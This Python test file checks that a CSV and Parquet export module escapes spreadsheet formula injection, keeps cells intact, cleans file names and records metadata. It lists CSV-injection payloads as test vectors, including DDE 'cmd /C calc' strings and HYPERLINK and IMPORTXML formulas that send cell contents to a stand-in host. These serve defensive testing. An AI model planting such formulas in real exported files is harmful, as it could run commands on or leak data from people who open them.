"""What is exported opens harmlessly, and reads back as it was."""

import csv as readers
import io
import json
import math
from datetime import UTC, date, datetime

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from panels import _export as e

ABOUT = e.About("Campaigns", "Today", datetime(2026, 11, 24, 11, tzinfo=UTC), {"spend": 1, "cpa": 3})


def rows(data: bytes) -> list[list[str]]:
    """As Python's own reader sees the rows below the comments."""
    text = data.decode("utf-8-sig").split("\r\n", e.HEADER_LINES)[-1]
    return list(readers.reader(io.StringIO(text, newline="")))


# The vectors of OWASP's page on CSV injection and of PayloadsAllTheThings.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.test?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0A0")',
    "-2+3+cmd|' /C calc'!D2",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stays_text(text):
    (cell,) = rows(e.csv({"name": [text]}, ABOUT))[1]
    assert cell.startswith("'")


@pytest.mark.parametrize(
    "text", ["a,=1+1", "a;=1+1", 'a";=1+1', 'a",=1+1', "a\n=1+1", "a\r\n=1+1", "a\u2028=1"]
)
def test_no_separator_or_quote_starts_a_cell_of_its_own(text):
    data = e.csv({"name": [text], "spend": [1.5]}, ABOUT).decode("utf-8-sig")
    last = data.split("\r\n")[e.HEADER_LINES + 1]
    assert last.startswith('"a')
    assert last.endswith('",1.5')
    assert len(data.split("\r\n")) == e.HEADER_LINES + 3
    assert data.count("\n") == data.count("\r\n") == e.HEADER_LINES + 2


@pytest.mark.parametrize(
    ("value", "bare"),
    [
        (-12.5, "-12.5"),
        (0, "0"),
        (1e300, "1e+300"),
        (None, ""),
        (math.nan, ""),
        (math.inf, ""),
        (True, "true"),
        (date(2026, 11, 24), "2026-11-24"),
        (datetime(2026, 11, 24, 11, tzinfo=UTC), "2026-11-24T11:00:00+00:00"),
        ([1.0, 2.0], '"1.0; 2.0"'),
        (["=1"], '"\'=1"'),
        ("DE | Brand", '"DE | Brand"'),
        ("1234567890", '"1234567890"'),
    ],
)
def test_numbers_stay_numbers(value, bare):
    text = e.csv({"x": [value]}, ABOUT).decode("utf-8-sig")
    assert text.split("\r\n")[e.HEADER_LINES + 1] == bare


def test_headers_are_guarded_too():
    assert rows(e.csv({"=x": [1]}, ABOUT)) == [["'=x"], ["1"]]


def test_a_file_says_what_it_is():
    text = e.csv({"x": [1]}, ABOUT).decode("utf-8-sig").split("\r\n")
    assert text[:4] == [
        "# subject: Campaigns",
        "# window: Today",
        "# as_of: 2026-11-24T11:00+00:00",
        "# definitions: cpa v3, spend v1",
    ]
    kept = pq.read_schema(io.BytesIO(e.parquet({"x": [1]}, ABOUT))).metadata
    assert kept[b"paceline.as_of"] == b"2026-11-24T11:00+00:00"
    assert kept[b"paceline.definitions"] == b"cpa v3, spend v1"


@pytest.mark.parametrize(
    ("about", "name"),
    [
        (ABOUT, "campaigns_today_as-of-20261124t1100z.csv"),
        (e.About("Ads of ../../etc: =x"), "ads-of-etc-x.csv"),
        (e.About("目標"), "table.csv"),
    ],
)
def test_file_names(about, name):
    assert e.file_name(about, "csv").lower() == name


def test_a_hostile_subject_breaks_no_line():
    text = e.csv({"x": [1]}, e.About("a\r\n=1+1\nb")).decode("utf-8-sig").split("\r\n")
    assert text[0] == "# subject: a  =1+1 b"
    assert text[e.HEADER_LINES] == '"x"'


WORDS = st.text(st.characters(exclude_categories=("Cs",)), max_size=20)
CLEAN = st.text(st.characters(exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp")), max_size=20)


@given(st.lists(st.tuples(CLEAN, st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False)))))
def test_a_csv_reads_back_equal(lines):
    read = rows(e.csv({"name": [t for t, _ in lines], "spend": [n for _, n in lines]}, ABOUT))
    assert read[0] == ["name", "spend"]
    back = [(text.removeprefix("'"), float(number) if number else None) for text, number in read[1:]]
    assert back == lines


@given(st.lists(st.lists(WORDS, min_size=3, max_size=3)))
def test_no_text_becomes_more_cells_or_a_formula(lines):
    read = rows(e.csv({n: [line[i] for line in lines] for i, n in enumerate("abc")}, ABOUT))
    assert [len(row) for row in read] == [3] * (len(lines) + 1)
    for cell in (cell for row in read[1:] for cell in row):
        assert not any(mark in cell for mark in "\t\r\n\x00\u202e")
        assert cell[:1] not in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@given(st.lists(st.tuples(WORDS, st.one_of(st.none(), st.floats(allow_nan=False))), min_size=1))
def test_parquet_reads_back_equal(lines):
    names, numbers = [t for t, _ in lines], [n for _, n in lines]
    table = pq.read_table(io.BytesIO(e.parquet({"name": names, "spend": numbers}, ABOUT)))
    assert table["name"].to_pylist() == names
    assert json.dumps(table["spend"].to_pylist()) == json.dumps(numbers)
